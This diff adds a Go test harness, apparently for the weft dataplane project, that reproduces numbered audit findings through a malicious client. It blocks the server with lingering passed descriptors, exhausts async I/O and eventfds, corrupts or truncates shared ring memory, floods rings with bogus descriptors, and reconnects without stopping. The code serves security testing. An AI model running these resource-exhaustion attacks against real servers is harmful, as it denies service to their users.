@@ -1,0 +1,416 @@
+package main
+
+import (
+	"context"
+	"encoding/binary"
+	"errors"
+	"fmt"
+	"math/rand/v2"
+	"net"
+	"net/netip"
+	"time"
+	"unsafe"
+
+	"golang.org/x/sys/unix"
+
+	"github.com/weftnet/weft/test/netns"
+)
+
+// again repeats an attack until ctx ends; what the server refuses is tried again after a moment. A new reason is said.
+func again(ctx context.Context, underWay func(), once func() error) error {
+	for last := ""; ctx.Err() == nil; {
+		if err := once(); err != nil {
+			if err.Error() != last {
+				last = err.Error()
+				fmt.Println(last)
+			}
+			pause(ctx, 10*time.Millisecond)
+		}
+		underWay() // a refusal is an answer too
+	}
+	return nil
+}
+
+func pause(ctx context.Context, d time.Duration) {
+	select {
+	case <-ctx.Done():
+	case <-time.After(d):
+	}
+}
+
+// lingering makes a TCP socket whose close takes an hour: its data is never read. The other end stays open.
+func lingering(o orders) (fd int, err error) {
+	err = netns.Do(o.Netns, func() error {
+		listener, err := net.ListenTCP("tcp4", &net.TCPAddr{IP: net.IPv4(127, 0, 0, 1)})
+		if err != nil {
+			return err
+		}
+		raw, err := listener.SyscallConn()
+		if err != nil {
+			return err
+		}
+		_ = raw.Control(func(fd uintptr) { _ = unix.SetsockoptInt(int(fd), unix.SOL_SOCKET, unix.SO_RCVBUF, 1) })
+		defer listener.Close()
+		if fd, err = unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0); err != nil {
+			return err
+		}
+		address := &unix.SockaddrInet4{Port: listener.Addr().(*net.TCPAddr).Port, Addr: [4]byte{127, 0, 0, 1}}
+		err = errors.Join(
+			unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_SNDBUF, 4096),
+			unix.SetsockoptLinger(fd, unix.SOL_SOCKET, unix.SO_LINGER, &unix.Linger{Onoff: 1, Linger: 3600}),
+			unix.Connect(fd, address), unix.SetNonblock(fd, true))
+		if err != nil {
+			return err
+		}
+		other, err := listener.AcceptTCP()
+		if err != nil {
+			return err
+		}
+		kept = append(kept, other)
+		for stuck := 0; stuck < 3; { // what was sent may leave room a moment later
+			n, _ := unix.Write(fd, make([]byte, 1<<16))
+			if stuck++; n > 0 {
+				stuck = 0
+			}
+			<-time.After(time.Millisecond)
+		}
+		return unix.SetNonblock(fd, false)
+	})
+	return fd, err
+}
+
+// leaveTo passes a descriptor and gives it up, so that the last close is the server's. It is within a socket, of which the attacker
+// has the only descriptor until then.
+func (c *client) leaveTo(fd int) error {
+	pair, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_SEQPACKET|unix.SOCK_CLOEXEC, 0)
+	if err != nil {
+		return errors.Join(err, unix.Close(fd))
+	}
+	err = unix.Sendmsg(pair[0], []byte{0}, unix.UnixRights(fd), nil, 0)
+	_ = unix.Close(fd)
+	_ = unix.Close(pair[0])
+	err = errors.Join(err, c.say(ackMessage, pair[1], nil))
+	go unix.Close(pair[1]) // if the server was faster, it lasts
+	return err
+}
+
+// kept are sockets that are never read.
+var kept []*net.TCPConn
+
+// lingeringDescriptors: finding 1a. A connected client passes descriptors whose close blocks, as messages that nobody expects.
+func lingeringDescriptors(ctx context.Context, o orders, underWay func()) error {
+	return again(ctx, underWay, func() error {
+		c, err := dial(o)
+		if err != nil {
+			return err
+		}
+		defer c.free()
+		defer c.leave()
+		if err = c.allocate(shared{}, 1, 10); err == nil {
+			err = c.connect(o, honestEvent)
+		}
+		if err != nil {
+			return err
+		}
+		fd, err := lingering(o)
+		if err != nil {
+			return err
+		}
+		return c.leaveTo(fd)
+	})
+}
+
+// manyLingeringDescriptors: finding 1b. Clients without the secret queue such descriptors behind a bad first message.
+func manyLingeringDescriptors(ctx context.Context, o orders, underWay func()) error {
+	return again(ctx, underWay, func() error {
+		c, err := dial(o)
+		if err != nil {
+			return err
+		}
+		defer c.leave()
+		fd, err := lingering(o)
+		if err != nil {
+			return err
+		}
+		return errors.Join(c.say(connectMessage, -1, nil), c.leaveTo(fd))
+	})
+}
+
+// blockingEventfd: finding 3. Asynchronous I/O is exhausted, so that a dataplane that starts now has none; then the client's eventfd
+// is full and blocks.
+func blockingEventfd(ctx context.Context, o orders, underWay func()) error {
+	for events := uintptr(1 << 16); events > 0; events /= 2 {
+		for {
+			var context uintptr
+			if _, _, errno := unix.Syscall(unix.SYS_IO_SETUP, events, uintptr(unsafe.Pointer(&context)), 0); errno != 0 {
+				break
+			}
+		}
+	}
+	underWay()
+	full := func() (int, error) {
+		fd, err := unix.Eventfd(0, unix.EFD_CLOEXEC)
+		if err == nil {
+			_, err = unix.Write(fd, binary.NativeEndian.AppendUint64(nil, 1<<64-2))
+		}
+		return fd, err
+	}
+	return again(ctx, underWay, func() error {
+		c, err := dial(o)
+		if err != nil {
+			return err
+		}
+		defer c.free()
+		defer c.leave()
+		if err = c.allocate(shared{paid: true}, 1, 10); err == nil {
+			err = c.connect(o, full)
+		}
+		if err != nil {
+			return err
+		}
+		in := c.ring(false, 0)
+		for i := range c.slots {
+			slot(in, i, 0, 0, 2048, uint32(len(c.memory)-4096))
+		}
+		return send(ctx, o, o.Address, func() error {
+			binary.LittleEndian.PutUint16(in[6:], binary.LittleEndian.Uint16(in[64:])+uint16(c.slots-1))
+			return nil
+		})
+	})
+}
+
+// send has the pod's kernel send to an address.
+func send(ctx context.Context, o orders, to netip.Addr, each func() error) error {
+	var socket *net.UDPConn
+	err := netns.Do(o.Netns, func() (err error) {
+		socket, err = net.DialUDP("udp", nil, net.UDPAddrFromAddrPort(netip.AddrPortFrom(to, 9)))
+		return err
+	})
+	if err != nil {
+		return err
+	}
+	defer socket.Close()
+	for ctx.Err() == nil {
+		if err := each(); err != nil {
+			return err
+		}
+		_, _ = socket.Write([]byte("x"))
+	}
+	return nil
+}
+
+// sparseMemory: finding 4. The dataplane touches memory without pages first, and so pays for them; the client keeps it.
+func sparseMemory(ctx context.Context, o orders, underWay func()) error {
+	sizes := []int{1 << 30, 256 << 20, 32 << 20, 16 << 20}
+	keptClients := []*client{}
+	return again(ctx, underWay, func() error {
+		c, err := dial(o)
+		if err != nil {
+			return err
+		}
+		if err = c.allocate(shared{size: sizes[0]}, 1, 10); err == nil {
+			err = c.connect(o, honestEvent)
+		}
+		if err != nil {
+			c.leave()
+			c.free()
+			if len(sizes) > 1 {
+				sizes = sizes[1:]
+			}
+			return fmt.Errorf("connect: %w", err)
+		}
+		gone := c.awaitEnd()
+		out := c.ring(true, 0)
+		for at, last := 1<<20, len(c.memory)-4096; at < last && ctx.Err() == nil; {
+			for i := range c.slots {
+				slot(out, i, 0, 0, 64, uint32(at))
+				at = min(at+4096, last)
+			}
+			c.publish(0, c.slots)
+			for waits := true; waits && ctx.Err() == nil; {
+				select {
+				case err := <-gone:
+					return err
+				default:
+				}
+				pause(ctx, time.Millisecond)
+				waits = binary.LittleEndian.Uint16(out[64:]) != binary.LittleEndian.Uint16(out[6:])
+			}
+		}
+		c.leave()
+		keptClients = append(keptClients, c)
+		pause(ctx, time.Second)
+		left := int64(0)
+		for _, k := range keptClients {
+			var stat unix.Stat_t
+			if err := unix.Fstat(k.fd, &stat); err == nil {
+				left += stat.Blocks * 512
+			}
+		}
+		fmt.Println("left", left)
+		if left > 4<<30 {
+			<-ctx.Done() // it is shown
+		}
+		return nil
+	})
+}
+
+// ringsOf has an attack on the rings of a connection go on until ctx or the connection ends.
+func ringsOf(ctx context.Context, o orders, underWay func(), m shared, prepare, each func(c *client)) error {
+	return again(ctx, underWay, func() error {
+		c, err := greediest(o, m)
+		if err != nil {
+			return err
+		}
+		defer c.free()
+		defer c.leave()
+		prepare(c)
+		gone := c.awaitEnd()
+		for ctx.Err() == nil {
+			select {
+			case err := <-gone:
+				return err
+			default:
+			}
+			underWay()
+			each(c)
+		}
+		return nil
+	})
+}
+
+// allRings calls f with each ring to the server.
+func (c *client) allRings(f func(ring []byte)) {
+	for i := range c.rings {
+		f(c.ring(true, i))
+	}
+}
+
+// wrongDescriptors: finding 5. Rings that are always full of descriptors that point nowhere.
+func wrongDescriptors(ctx context.Context, o orders, underWay func()) error {
+	return ringsOf(ctx, o, underWay, shared{}, func(c *client) {
+		c.allRings(func(ring []byte) {
+			for i := range c.slots {
+				slot(ring, i, 0, 7, 64, 0)
+			}
+		})
+	}, func(c *client) {
+		c.publishAll(c.slots)
+		pause(ctx, 100*time.Microsecond)
+	})
+}
+
+// endlessChains are packets of as many empty buffers as the ring has, and a last one.
+func endlessChains(ctx context.Context, o orders, underWay func()) error {
+	return ringsOf(ctx, o, underWay, shared{paid: true}, func(c *client) {
+		c.allRings(func(ring []byte) {
+			for i := range c.slots - 1 {
+				slot(ring, i, 1, 0, 0, 1<<20)
+			}
+			slot(ring, c.slots-1, 0, 0, 64, uint32(len(c.memory)-64))
+		})
+	}, func(c *client) {
+		c.publishAll(c.slots)
+		pause(ctx, 100*time.Microsecond)
+	})
+}
+
+// kicks rings the dataplane all the time, with nothing to receive.
+func kicks(ctx context.Context, o orders, underWay func()) error {
+	one := binary.NativeEndian.AppendUint64(nil, 1)
+	return ringsOf(ctx, o, underWay, shared{}, func(*client) {}, func(c *client) {
+		for _, fd := range c.events {
+			_, _ = unix.Write(fd, one)
+		}
+	})
+}
+
+// changingRings writes at random into the rings while the dataplane works with them.
+func changingRings(ctx context.Context, o orders, underWay func()) error {
+	random := rand.New(rand.NewPCG(1, 2))
+	return ringsOf(ctx, o, underWay, shared{paid: true}, func(c *client) { noise(c.memory[2*c.ringSpace():], random) }, func(c *client) {
+		for range 64 {
+			noise(c.memory[random.IntN(2*c.ringSpace()-8):][:8], random)
+		}
+		c.publishAll(random.IntN(c.slots + 2))
+	})
+}
+
+// shrinkingMemory takes pages away while the dataplane works with them.
+func shrinkingMemory(ctx context.Context, o orders, underWay func()) error {
+	return ringsOf(ctx, o, underWay, shared{unsealable: true}, func(c *client) {
+		c.allRings(func(ring []byte) {
+			for i := range c.slots {
+				slot(ring, i, 0, 0, 64, uint32(len(c.memory)-4096))
+			}
+		})
+		c.publishAll(c.slots)
+	}, func(c *client) {
+		_ = unix.Ftruncate(c.fd, int64(len(c.memory)-8192))
+		pause(ctx, time.Millisecond)
+		_ = unix.Ftruncate(c.fd, int64(len(c.memory)))
+		defer func() { _ = recover() }()
+		c.publishAll(c.slots)
+	})
+}
+
+// unreadAnswers: finding 10. A client that asks for as many rings as there can be and reads no answer.
+func unreadAnswers(ctx context.Context, o orders, underWay func()) error {
+	return again(ctx, underWay, func() error {
+		c, err := dial(o)
+		if err != nil {
+			return err
+		}
+		defer c.free()
+		defer c.leave()
+		if err = c.allocate(shared{}, 255, 4); err == nil {
+			err = c.initiate(o)
+		}
+		if err == nil {
+			err = c.say(addRegionMessage, c.fd, func(b []byte) { binary.LittleEndian.PutUint64(b[4:], uint64(len(c.memory))) })
+		}
+		for i := 0; err == nil && i < 510; i++ {
+			err = c.addRing(i < 255, i%255, honestEvent)
+		}
+		underWay()
+		pause(ctx, 3*time.Second)
+		return err
+	})
+}
+
+// reconnects connects as fast as it can.
+func reconnects(ctx context.Context, o orders, underWay func()) error {
+	return again(ctx, underWay, func() error {
+		c, err := dial(o)
+		if err != nil {
+			return err
+		}
+		defer c.free()
+		defer c.leave()
+		if err = c.allocate(shared{}, 1, 10); err == nil {
+			err = c.connect(o, honestEvent)
+		}
+		return err
+	})
+}
+
+// strangers say anything, without the secret, and pass descriptors with it.
+func strangers(ctx context.Context, o orders, underWay func()) error {
+	random := rand.New(rand.NewPCG(3, 4))
+	return again(ctx, underWay, func() error {
+		c, err := dial(o)
+		if err != nil {
+			return err
+		}
+		defer c.leave()
+		for range 1 + random.IntN(8) {
+			fd, err := honestEvent()
+			if err != nil {
+				return err
+			}
+			_ = c.say(uint16(random.IntN(10)), fd, func(b []byte) { noise(b[2:], random) })
+			_ = unix.Close(fd)
+		}
+		return nil
+	})
+}
